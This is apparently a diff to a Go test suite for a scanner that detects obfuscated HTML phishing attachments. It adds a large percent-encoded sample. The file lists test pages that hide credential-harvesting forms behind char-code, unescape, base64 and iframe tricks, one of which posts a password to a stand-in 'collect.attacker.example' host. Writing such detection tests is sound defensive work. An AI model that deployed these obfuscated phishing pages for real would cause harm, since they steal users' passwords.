@@ -68,6 +68,7 @@ func htmlPhishCases() map[string][]sample {
 			{"char-code array", pageAttach("a.html", `<script>var c=[`+charCodes(written)+`];document.write(c.map(function(n){return String.fromCharCode(n)}).join(""));</script>`), "2"},
 			{"fromCharCode apply", pageAttach("a.html", `<script>document.body.innerHTML=String.fromCharCode(`+charCodes(written)+`)</script>`), "2"},
 			{"unescape percent-u", pageAttach("a.html", `<script>document.write(unescape("%u003Cform action=%u0022https://collect.attacker.example/u%u0022%3E%3Cinput type=password%3E%3C/form%3E"))</script>`), "2"},
+			{"large written page", pageAttach("a.html", `<script>document.write(unescape('`+percentAll(`<div style="background:url(data:image/png;base64,`+strings.Repeat("QUJD", 25000)+`)"></div>`+written)+`'));</script>`), "2"},
 			{"two layers", pageAttach("a.html", `<script>document.write(unescape("`+percentAll(`<script>document.write(atob("`+b64+`"))</`+`script>`)+`"))</script>`), "2"},
 			{"written login, script sends", pageAttach("a.html", `<script>document.write(atob("`+base64.StdEncoding.EncodeToString([]byte(loginInputs))+`"))</script>`+fetchSend), "2"},
 			{"iframe srcdoc", pageAttach("a.html", `<iframe srcdoc="`+strings.ReplaceAll(written, `"`, "&quot;")+`" style="width:100%;height:100%"></iframe>`), "2"},
